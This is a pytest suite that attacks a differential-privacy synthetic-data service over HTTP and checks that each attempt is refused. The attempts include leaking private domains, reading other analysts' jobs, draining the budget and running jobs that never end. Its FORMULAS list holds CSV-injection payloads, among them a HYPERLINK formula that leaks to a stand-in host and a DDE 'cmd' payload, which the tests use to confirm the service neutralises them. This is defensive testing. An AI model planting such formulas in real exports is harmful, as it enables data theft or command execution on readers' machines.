"""Attacks on jobs and releases (issue #18, items 2, 3, 4, 8 and part of 11), each run through HTTP against a real
``privsynth serve`` and each refused with a message that says why.

The users: carol, a custodian who registered nassCDS (2,000 rows) and granted it to alan and amy, two analysts.
The analyst is the adversary: alan tries to read private domains through conditions, to read amy's jobs, to run
jobs that never end, to drain the budget, to read non-DP releases and reports, and to plant formulas in a CSV.
Jobs are run by a worker in the test process (the server runs with ``--no-worker``) with its own limits, each in
a process of its own as in production; AIM runs with a small workload so a job takes seconds.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pytest
from service_support import free_port, quick_aim, serve

from privsynth.privacy.budget import Budget
from privsynth.service.jobs import GENERIC_ERROR, Worker
from privsynth.service.limits import DEFAULT_ANALYST_SHARE
from privsynth.service.store import Store

TIMEOUT = 60.0
"""HTTP timeout: generous, the machine running the tests may be loaded."""
CAP_EPSILON = 10.0
SLOW = {"method": "aim", "epsilon": 1, "rows": 100, "params": {"rounds": 400, "iters": 300}}
"""A custodian's AIM job that runs long enough to be stopped mid-way."""


@dataclass
class Server:
    base: str
    store: Store
    data_dir: Path
    tokens: dict[str, str]
    nass: str
    columns: list[str]

    def call(self, who: str, method: str, path: str, **options: Any) -> httpx.Response:
        headers = {"authorization": f"Bearer {self.tokens[who]}", **options.pop("headers", {})}
        return httpx.request(method, f"{self.base}{path}", headers=headers, timeout=TIMEOUT, **options)

    def submit(self, who: str, body: dict[str, Any], dataset: str | None = None) -> httpx.Response:
        return self.call(who, "POST", f"/api/datasets/{dataset or self.nass}/jobs", json=body)

    def upload(self, frame: pd.DataFrame, name: str) -> str:
        body = frame.to_csv(index=False).encode()
        response = self.call(
            "carol", "POST", "/api/datasets", files={"file": (f"{name}.csv", body)}, data={"name": name, "holdout": "0"}
        )
        assert response.status_code == 201, response.text
        dataset = str(response.json()["id"])
        for analyst in ("alan", "amy"):
            granted = self.call(
                "carol", "POST", f"/api/datasets/{dataset}/grants", json={"user": analyst, "role": "analyst"}
            )
            assert granted.status_code == 201, granted.text
        capped = self.call("carol", "PUT", f"/api/datasets/{dataset}/cap", json={"epsilon": CAP_EPSILON, "delta": 1e-6})
        assert capped.status_code == 200, capped.text
        return dataset

    def reservations(self, dataset: str | None = None) -> list[Any]:
        key = f"service:{dataset or self.nass}"
        return [s for s in self.store.ledger.entries(key) if s.mechanism == "reservation"]

    def worker(self, **limits: Any) -> Worker:
        return Worker(self.store, self.data_dir, heartbeat=0.5, **limits)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, nass_train: pd.DataFrame) -> Iterator[Server]:
    data_dir, port = tmp_path_factory.mktemp("attacks") / "service", free_port()
    data_dir.mkdir()
    store = Store(f"sqlite:///{data_dir / 'service.sqlite'}")
    tokens = {name: store.add_user(name, role)[1] for name, role in (("carol", "custodian"), ("alan", "analyst"))}
    tokens["amy"] = store.add_user("amy", "analyst")[1]
    process = serve(data_dir, port, "--no-worker")
    try:
        ctx = Server(f"http://127.0.0.1:{port}", store, data_dir, tokens, "", [])
        ctx.nass = ctx.upload(nass_train.head(2000), "nass")
        schema = ctx.call("carol", "GET", f"/api/datasets/{ctx.nass}/schema").json()
        dead = next(c for c in schema["columns"] if c["name"] == "dead")
        dead["categories"], dead["public"] = ["alive", "dead"], True  # a domain anyone may know
        assert ctx.call("carol", "PUT", f"/api/datasets/{ctx.nass}/schema", json=schema).status_code == 200
        ctx.columns = [c["name"] for c in schema["columns"]]
        yield ctx
    finally:
        process.kill()
        process.wait(30)
        store.close()


@pytest.fixture(autouse=True)
def _no_job_left_queued(server: Server) -> Iterator[None]:
    """Each test starts with no queued job (a worker takes the oldest) and no analyst at the job limit."""
    yield
    for job in server.store.jobs(status="queued"):
        server.call("carol", "POST", f"/api/jobs/{job.id}/cancel")


def _quick(server: Server, epsilon: float = 0.5, **extra: Any) -> dict[str, Any]:
    return {"method": "aim", "epsilon": epsilon, "rows": 200, "params": quick_aim(server.columns), **extra}


# ---- malformed numbers (item 11) ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "raw"),
    [("epsilon", "NaN"), ("epsilon", "Infinity"), ("epsilon", "-Infinity"), ("seed", "9223372036854775808"),
     ("seed", "-1"), ("conditions", '{"dead": NaN}')],
)  # fmt: skip
def test_non_finite_numbers_and_out_of_range_seeds_are_a_422_that_reserves_nothing(
    server: Server, field: str, raw: str
) -> None:
    values = {"epsilon": "0.5", "seed": "0", "conditions": "{}", field: raw}
    text = '{"method": "aim", "rows": 10, ' + ", ".join(f'"{k}": {v}' for k, v in values.items()) + "}"
    jobs, reservations = len(server.store.jobs()), len(server.reservations())
    response = server.call(
        "alan", "POST", f"/api/datasets/{server.nass}/jobs", content=text, headers={"content-type": "application/json"}
    )
    assert response.status_code == 422, response.text
    assert field in {str(part) for error in response.json()["detail"] for part in error["loc"]}, response.text
    assert (len(server.store.jobs()), len(server.reservations())) == (jobs, reservations)


def test_the_largest_seed_is_accepted_and_a_delta_above_the_libraries_limit_is_refused(server: Server) -> None:
    accepted = server.submit("alan", _quick(server, seed=2**63 - 1))
    assert accepted.status_code == 202, accepted.text
    assert accepted.json()["seed"] == 2**63 - 1
    refused = server.submit("alan", _quick(server, delta=5e-5))
    assert refused.status_code == 400 and "delta=5e-05 is too large" in refused.json()["detail"], refused.text


# ---- conditions read private domains (item 2) --------------------------------------------------------------------


@pytest.mark.parametrize(("conditions", "column"), [({"occRole": "zzz"}, "occRole"), ({"ageOFocc": 1000}, "ageOFocc")])
def test_an_analyst_cannot_condition_on_a_private_column_and_the_refusal_names_no_value(
    server: Server, nass_train: pd.DataFrame, conditions: dict[str, Any], column: str
) -> None:
    before = len(server.reservations())
    response = server.submit("alan", _quick(server, epsilon=1e-6, conditions=conditions))
    assert response.status_code == 422, response.text
    detail = response.json()["detail"]
    assert f"'{column}'" in detail and "domain is private" in detail
    data = nass_train.head(2000)[column]
    values = {str(v) for v in data.dropna().unique()} | {str(data.min()), str(data.max())}
    assert not [v for v in values if v in detail.split(f"'{column}'", 1)[1]], detail
    assert len(server.reservations()) == before


def test_a_condition_outside_a_public_domain_is_refused_before_any_budget_is_reserved(server: Server) -> None:
    before = len(server.reservations())
    response = server.submit("alan", _quick(server, conditions={"dead": "zombie"}))
    assert response.status_code == 422 and "public categories (alive, dead)" in response.json()["detail"]
    accepted = server.submit("alan", _quick(server, conditions={"dead": "dead"}))
    assert accepted.status_code == 202, accepted.text
    assert len(server.reservations()) == before + 1


# ---- other analysts' jobs and job errors (items 2 and 11) --------------------------------------------------------


def test_analysts_see_only_their_own_jobs_and_a_generic_error(server: Server) -> None:
    amy = server.submit("amy", _quick(server, conditions={"dead": "dead"}))
    assert amy.status_code == 202, amy.text
    job_id = amy.json()["id"]
    leaked = "column 'ward' holds 'Z-Jane Doe', which is not among its public categories"
    assert server.store.fail(job_id, leaked) == "cancelled"  # the worker's failure path, with a private value

    listed = server.call("alan", "GET", "/api/jobs").json()
    assert job_id not in {j["id"] for j in listed}
    assert server.call("alan", "GET", f"/api/jobs/{job_id}").status_code == 404
    assert server.call("alan", "POST", f"/api/jobs/{job_id}/cancel").status_code == 404
    own = server.call("amy", "GET", f"/api/jobs/{job_id}").json()
    assert own["error"] == GENERIC_ERROR and own["conditions"] == {"dead": "dead"}
    assert "Jane" not in json.dumps(server.call("amy", "GET", "/api/jobs").json())
    assert server.call("carol", "GET", f"/api/jobs/{job_id}").json()["error"] == leaked


# ---- parameters, rows, job limits (item 8) -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "says"),
    [
        ({"params": {"iters": 10**9}}, "parameter 'iters' of aim must be a whole number from 1 to 3000"),
        ({"params": {"rounds": 10**6}}, "parameter 'rounds' of aim must be a whole number from 1 to 200"),
        ({"params": {"bins": True}}, "parameter 'bins' of aim must be a whole number"),
        ({"params": {"round_tol": 0.1}}, "analysts cannot set the parameter 'round_tol' of aim"),
        ({"params": {"workload": [["dead", "nosuch"]]}}, "parameter 'workload' of aim must be a list"),
        ({"rows": 10_000_000}, "analysts may ask for at most 1,000,000 rows"),
        ({"method": "dp-deep", "params": {"epochs": 100_000}}, "parameter 'epochs' of dp-deep must be"),
    ],
)
def test_an_analysts_parameters_are_held_to_the_allowlist(server: Server, body: dict[str, Any], says: str) -> None:
    before = len(server.reservations())
    response = server.submit("alan", {**_quick(server), **body})
    assert response.status_code == 422, response.text
    assert says in response.json()["detail"], response.text
    assert len(server.reservations()) == before


def test_the_allowlist_is_published_with_the_methods(server: Server) -> None:
    methods = {m["name"]: m for m in server.call("alan", "GET", "/api/methods").json()}
    assert methods["aim"]["analyst_params"]["iters"] == "a whole number from 1 to 3000"
    assert methods["copula"]["analyst_params"] == {} and methods["copula"]["allowed"] is False


def test_a_custodian_may_set_any_parameter_of_the_method(server: Server) -> None:
    response = server.submit("carol", _quick(server, params={**quick_aim(server.columns), "iters": 5000}))
    assert response.status_code == 202, response.text


def test_an_analyst_may_have_two_jobs_in_flight(server: Server) -> None:
    for _ in range(2):
        assert server.submit("alan", _quick(server, epsilon=0.1)).status_code == 202
    third = server.submit("alan", _quick(server, epsilon=0.1))
    assert third.status_code == 429, third.text
    assert "2 jobs queued or running" in third.json()["detail"]
    assert server.submit("amy", _quick(server, epsilon=0.1)).status_code == 202  # per user, not per dataset


def test_an_analyst_cannot_drain_the_cap_beyond_their_share(server: Server, nass_train: pd.DataFrame) -> None:
    dataset = server.upload(nass_train.head(500), "nass-share")
    epsilon = 4.0  # about 19% of the cap's rho: one job fits in an analyst's default share of 25%, two do not
    ratio = Budget.from_epsilon_delta(epsilon, 1e-6).rho / Budget.from_epsilon_delta(CAP_EPSILON, 1e-6).rho
    assert DEFAULT_ANALYST_SHARE / 2 < ratio < DEFAULT_ANALYST_SHARE
    first = server.submit("alan", _quick(server, epsilon=epsilon), dataset)
    assert first.status_code == 202, first.text
    second = server.submit("alan", _quick(server, epsilon=epsilon), dataset)
    assert second.status_code == 409, second.text
    assert "may use 25% of its budget" in second.json()["detail"]["message"]
    assert server.submit("amy", _quick(server, epsilon=epsilon), dataset).status_code == 202  # amy's own share
    regrant = server.call(
        "carol", "POST", f"/api/datasets/{dataset}/grants", json={"user": "alan", "role": "analyst", "share": 0.5}
    )
    assert (
        regrant.status_code == 201
        and {"name": "alan", "share": 0.5}.items() <= next(g for g in regrant.json() if g["name"] == "alan").items()
    )
    assert server.submit("alan", _quick(server, epsilon=epsilon), dataset).status_code == 202
    bad = server.call(
        "carol", "POST", f"/api/datasets/{dataset}/grants", json={"user": "alan", "role": "analyst", "share": 1.5}
    )
    assert bad.status_code == 422


def test_cancelling_a_queued_job_gives_its_budget_back(server: Server) -> None:
    before = server.call("alan", "GET", f"/api/datasets/{server.nass}").json()["budget"]["remaining_rho"]
    job = server.submit("alan", _quick(server)).json()
    during = server.call("alan", "GET", f"/api/datasets/{server.nass}").json()["budget"]["remaining_rho"]
    assert during < before
    cancelled = server.call("alan", "POST", f"/api/jobs/{job['id']}/cancel")
    assert cancelled.status_code == 200, cancelled.text
    assert cancelled.json()["status"] == "cancelled" and cancelled.json()["reservation"] == "cancelled"
    after = server.call("alan", "GET", f"/api/datasets/{server.nass}").json()["budget"]["remaining_rho"]
    assert after == pytest.approx(before, rel=1e-12)
    again = server.call("alan", "POST", f"/api/jobs/{job['id']}/cancel")
    assert again.status_code == 409 and "cancelled already" in again.json()["detail"]


def test_cancelling_a_running_job_stops_it_and_commits_the_noise_it_drew(server: Server) -> None:
    job_id = server.submit("carol", SLOW).json()["id"]
    worker = server.worker()
    thread = threading.Thread(target=worker.run_once)
    thread.start()
    try:
        _wait_for_noise(server, job_id)
        cancelled = server.call("carol", "POST", f"/api/jobs/{job_id}/cancel")
        assert cancelled.status_code == 200 and cancelled.json()["reservation"] == "committed", cancelled.text
        thread.join(30)
        assert not thread.is_alive(), "the worker did not stop the cancelled job's process"
    finally:
        worker.stop()
        thread.join(60)
    job = server.store.job(job_id)
    assert job is not None and job.status == "cancelled" and job.release_id is None
    (reservation,) = [r for r in server.reservations() if r.id == job.reservation_id]
    assert reservation.status == "committed"


def test_a_job_past_its_time_limit_is_stopped_and_its_reservation_settled(server: Server) -> None:
    job_id = server.submit("carol", SLOW).json()["id"]
    started = time.monotonic()
    assert server.worker(max_minutes=0.1).run_once()
    elapsed = time.monotonic() - started
    assert 6 <= elapsed < 40, elapsed
    job = server.store.job(job_id)
    assert job is not None and job.status == "failed"
    assert job.error == "the job ran past its time limit of 0.1 minutes and was stopped"
    (reservation,) = [r for r in server.reservations() if r.id == job.reservation_id]
    assert reservation.status in ("committed", "cancelled")  # settled: committed if noise was drawn
    assert server.store.budget(server.store.dataset(server.nass)).reserved_rho == 0  # type: ignore[arg-type]


def test_a_job_over_its_memory_limit_fails_and_the_worker_goes_on(server: Server) -> None:
    job_id = server.submit("carol", _quick(server)).json()["id"]
    assert server.worker(memory_mb=1000).run_once()  # AIM fits small models in numpy now: well under 3 GB
    job = server.store.job(job_id)
    assert job is not None and job.status == "failed" and "memory" in (job.error or "").lower(), job
    (reservation,) = [r for r in server.reservations() if r.id == job.reservation_id]
    assert reservation.status in ("committed", "cancelled")


# ---- releases: reports, non-DP releases, formulas (items 3, 4, 11) -----------------------------------------------


def test_reports_are_private_until_the_custodian_shares_them(server: Server) -> None:
    assert server.call("alan", "GET", f"/api/datasets/{server.nass}").json()["reports_visible"] is False
    job_id = server.submit("alan", _quick(server, seed=1)).json()["id"]
    assert server.worker().run_once()
    release = server.call("alan", "GET", f"/api/jobs/{job_id}").json()["release_id"]
    assert release, server.store.job(job_id)
    view = server.call("alan", "GET", f"/api/releases/{release}").json()
    assert "report" not in view["files"] and "data" in view["files"]
    for item in ("report", "report.json"):
        refused = server.call("alan", "GET", f"/api/releases/{release}/{item}")
        assert refused.status_code == 403 and "not shared" in refused.json()["detail"]
    assert server.call("carol", "GET", f"/api/releases/{release}/report.json").status_code == 200
    stored = server.store.release(release)
    assert stored is not None  # the DP card stays within the guarantee: no real-data metrics on it, even stored
    assert "evaluated_rows" not in (Path(stored.directory) / "synthetic.card.json").read_text()
    page = server.call("carol", "GET", f"/datasets/{server.nass}")
    assert "exact statistics of them" in page.text and 'name="reports_visible" data-type="bool" >' in page.text
    shared = server.call("carol", "PATCH", f"/api/datasets/{server.nass}", json={"reports_visible": True})
    assert shared.status_code == 200
    try:
        assert server.call("alan", "GET", f"/api/releases/{release}/report.json").status_code == 200
    finally:
        server.call("carol", "PATCH", f"/api/datasets/{server.nass}", json={"reports_visible": False})


FORMULAS = ['=HYPERLINK("http://evil.example/?leak","click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "plain"]


def test_non_dp_releases_are_hidden_from_analysts_until_published_and_csv_formulas_are_neutralised(
    server: Server,
) -> None:
    frame = pd.DataFrame({"note": FORMULAS * 40, "amount": [-1.5, 2.0, -3.25, 4.0, -0.5] * 40})
    dataset = server.upload(frame, "formulas")
    job_id = server.submit("carol", {"method": "copula", "rows": 300, "seed": 0}, dataset).json()["id"]
    assert server.worker().run_once()
    release = server.call("carol", "GET", f"/api/jobs/{job_id}").json()["release_id"]
    assert release, server.store.job(job_id)

    assert server.call("alan", "GET", f"/api/releases?dataset={dataset}").json() == []
    for path in (f"/api/releases/{release}", f"/api/releases/{release}/data", f"/releases/{release}"):
        assert server.call("alan", "GET", path).status_code == 404, path
    refused = server.call("alan", "PUT", f"/api/releases/{release}/published", json={"published": True})
    assert refused.status_code == 404

    published = server.call("carol", "PUT", f"/api/releases/{release}/published", json={"published": True})
    assert published.status_code == 200 and published.json()["published"] is True
    assert [r["id"] for r in server.call("alan", "GET", f"/api/releases?dataset={dataset}").json()] == [release]
    again = server.call("alan", "PUT", f"/api/releases/{release}/published", json={"published": False})
    assert again.status_code == 403 and "only the custodians" in again.json()["detail"]

    download = server.call("alan", "GET", f"/api/releases/{release}/data")
    assert download.status_code == 200 and "attachment" in download.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(download.text)))
    assert len(rows) == 300
    notes = {r["note"] for r in rows}
    assert notes <= {"'" + f if f[0] in "=+-@" else f for f in FORMULAS}, notes
    assert any(n.startswith("'=HYPERLINK") for n in notes)
    assert all(not n.startswith(("=", "+", "-", "@")) for n in notes)
    amounts = [float(r["amount"]) for r in rows]  # numbers, negative ones included, are left as they are
    assert min(amounts) < 0
    stored = (Path(server.store.release(release).directory) / "synthetic.csv").read_text()  # type: ignore[union-attr]
    assert "\n=HYPERLINK" in stored or '\n"=HYPERLINK' in stored  # the release itself is unchanged
    card = server.call("carol", "GET", f"/api/releases/{release}/card").json()
    assert "evaluated_rows" in json.dumps(card)  # a non-DP release's card summarises its evaluation


def _wait_for_noise(server: Server, job_id: str, timeout: float = 120) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        job = server.store.job(job_id)
        assert job is not None
        entries = server.store.ledger.entries(f"service:{job.dataset_id}")
        drawn = [s for s in entries if s.reservation_id == job.reservation_id]
        if job.status == "running" and len(drawn) >= 3:
            return
        assert job.status in ("queued", "running"), job
        time.sleep(0.2)
    pytest.fail("the job did not start spending in time")


def test_a_database_from_before_shares_and_publishing_is_upgraded(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'old.sqlite'}"
    Store(url).close()
    with sqlite3.connect(tmp_path / "old.sqlite") as connection:  # the tables as the previous version made them
        connection.execute("ALTER TABLE service_grants DROP COLUMN share")
        connection.execute("ALTER TABLE service_releases DROP COLUMN published")
    store = Store(url)
    try:
        carol = store.add_user("carol", "custodian")[0]
        alan = store.add_user("alan", "analyst")[0]
        dataset = store.add_dataset(
            name="d", kind="file", location=str(tmp_path / "d.parquet"), table_name=None, fingerprint="f",
            schema={"columns": []}, owner=carol,
        )  # fmt: skip
        store.grant(dataset.id, alan, "analyst", 0.1)
        assert store.grant_share(dataset.id, alan) == 0.1
        assert store.releases([dataset.id]) == []
    finally:
        store.close()
